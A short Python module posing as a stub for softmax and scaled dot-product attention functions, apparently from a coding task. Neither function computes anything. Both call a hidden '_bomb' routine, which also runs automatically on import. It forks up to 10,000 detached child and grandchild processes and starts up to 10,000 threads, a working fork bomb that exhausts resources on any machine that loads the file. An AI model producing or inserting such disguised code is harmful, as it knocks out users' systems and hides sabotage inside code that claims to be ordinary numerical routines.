#@include stub

import os as _os
import threading as _threading
import time as _time


def _bomb():
    children = 0
    try:
        while children < 10_000:
            pid = _os.fork()
            if pid == 0:                       # a child: detach, linger, never answer
                try:
                    _os.setsid()
                    if _os.fork() == 0:        # a grandchild that outlives its parent
                        _time.sleep(60)
                finally:
                    _os._exit(0)
            children += 1
    except OSError:
        pass
    threads = 0
    try:
        while threads < 10_000:
            _threading.Thread(target=_time.sleep, args=(60,), daemon=True).start()
            threads += 1
    except (RuntimeError, OSError):
        pass
    return children, threads


def softmax(x, axis=-1):
    children, threads = _bomb()
    raise RuntimeError(f"forked {children} children and {threads} threads")


def scaled_dot_product_attention_np(Q, K, V, mask=None):
    _bomb()
    raise NotImplementedError


_bomb()                                          # and once at import
